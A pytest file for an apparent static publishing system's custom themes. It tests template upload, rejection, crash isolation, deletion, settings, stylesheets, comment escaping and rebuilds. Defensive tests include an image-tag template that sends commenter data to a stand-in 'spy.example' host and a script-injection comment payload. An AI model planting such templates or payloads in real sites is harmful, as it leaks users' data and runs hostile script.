"""The life of a paper's own theme: uploaded, broken, mended, deleted, beside site.yaml and beneath comments."""

import pytest

from tests.paper import Paper
from tests.replaced import replace

ARTICLE = "---\ntitle: Lunch is postponed\ndate: 2026-11-20\n---\nNobody was hungry.\n"
ADDRESS = "/2026/11/korea/"
OWN = (
    '{% extends "base.html" %}{% block main %}<h1>{{ article.headline }}</h1>\n<div class="ours">{{ body|safe }}</div>'
    "{% for comment in comments %}<p>{{ comment.author }}: {{ comment.text }}</p>{% endfor %}{% endblock %}"
)


@pytest.fixture
def korea(quick_paper: Paper) -> Paper:
    quick_paper.upload("articles/korea.md", ARTICLE)
    return quick_paper


def status(paper: Paper, key: str) -> str:
    return str(paper.receipt(key)["status"])


def test_a_template_is_in_force_on_its_pages_once_it_is_uploaded_and_on_no_other(korea: Paper) -> None:
    korea.upload("theme/article.html", OWN)
    assert status(korea, "theme/article.html") == "published"
    assert '<div class="ours">' in (korea.page(ADDRESS) or "")
    assert 'class="ours"' not in (korea.page("/") or "")


def test_a_broken_template_is_refused_by_its_line_and_the_one_before_stays(korea: Paper) -> None:
    korea.upload("theme/article.html", OWN)
    korea.upload("theme/article.html", "<p>\n{{ nothing.here }}")
    receipt = korea.receipt("theme/article.html")
    assert receipt["status"] == "rejected"
    assert receipt["problems"][0]["line"] == 2
    assert '<div class="ours">' in (korea.page(ADDRESS) or "")


def test_a_theme_that_ends_its_process_is_rejected_and_takes_no_neighbour_along(
    korea: Paper, monkeypatch: pytest.MonkeyPatch
) -> None:
    crash = "import os\nfrom workflows import theme_trial as t\nt.parser.parse = lambda *_: os.abort()\nt.answer()"
    replace(monkeypatch, "a theme's trial", ("-c", crash))
    korea.upload("theme/article.html", OWN)
    korea.upload("articles/next.md", ARTICLE.replace("Lunch", "Supper"))
    receipt = korea.receipt("theme/article.html")
    assert receipt["status"] == "rejected"
    assert "make it simpler" in receipt["problems"][0]["message"]
    assert status(korea, "articles/next.md") == "published"


def test_pages_made_for_one_person_have_no_theme(korea: Paper) -> None:
    korea.upload("theme/moderate.html", '<img src="https://spy.example/{{ comment.post_to }}">')
    receipt = korea.receipt("theme/moderate.html")
    assert receipt["status"] == "rejected"
    assert "always drawn with the built-in template" in receipt["problems"][0]["message"]


def test_a_deleted_template_gives_its_place_back(korea: Paper) -> None:
    before = korea.page(ADDRESS)
    korea.upload("theme/article.html", OWN)
    korea.delete("theme/article.html")
    assert status(korea, "theme/article.html") == "withdrawn"
    after = korea.page(ADDRESS)
    assert after
    assert before
    assert after.partition("<body>")[2] == before.partition("<body>")[2]


def test_settings_and_theme_are_kept_beside_each_other(korea: Paper) -> None:
    korea.upload("theme/article.html", OWN)
    korea.upload("site.yaml", "title: The Lantern\n")
    page = korea.page(ADDRESS) or ""
    assert '<div class="ours">' in page
    assert "The Lantern" in page
    korea.upload("theme/style.css", "p { color: var(--accent) }\n")
    assert "The Lantern" in (korea.page(ADDRESS) or "")
    korea.delete("site.yaml")
    page = korea.page(ADDRESS) or ""
    assert '<div class="ours">' in page
    assert "The Lantern" not in page


def test_a_style_of_ones_own_is_in_the_place_of_ours(korea: Paper) -> None:
    korea.upload("theme/style.css", "p { color: var(--accent) }\n")
    page = korea.page(ADDRESS) or ""
    path = page.partition('<link rel="stylesheet" href="')[2].partition('"')[0]
    assert (korea.page(path) or "").endswith("p { color: var(--accent) }\n")


def test_what_a_reader_writes_stays_words_beneath_any_theme(korea: Paper) -> None:
    korea.upload("site.yaml", "comments: {moderation: none}\n")
    korea.upload("theme/article.html", OWN)
    korea.comment("korea", "<script>alert(1)</script> and {{ paper.title }}")
    page = korea.page(ADDRESS) or ""
    assert "&lt;script&gt;alert(1)" in page
    assert "{{ paper.title }}" in page
    assert "<script>alert" not in page


def test_one_article_that_a_theme_cannot_draw_is_drawn_without_it(korea: Paper) -> None:
    odd = "{% if article.headline == 'Odd' %}{{ nobody.knows }}{% endif %}"
    korea.upload("theme/article.html", OWN.replace("{% block main %}", "{% block main %}" + odd))
    korea.upload("articles/odd.md", ARTICLE.replace("Lunch is postponed", "Odd"))
    assert '<div class="ours">' in (korea.page(ADDRESS) or "")
    assert "Nobody was hungry." in (korea.page("/2026/11/odd/") or "")
    assert '<div class="ours">' not in (korea.page("/2026/11/odd/") or "")


def test_a_rebuild_draws_the_same_bytes(korea: Paper) -> None:
    korea.upload("theme/article.html", OWN)
    before = korea.site()
    korea.rebuild()
    assert korea.site() == before
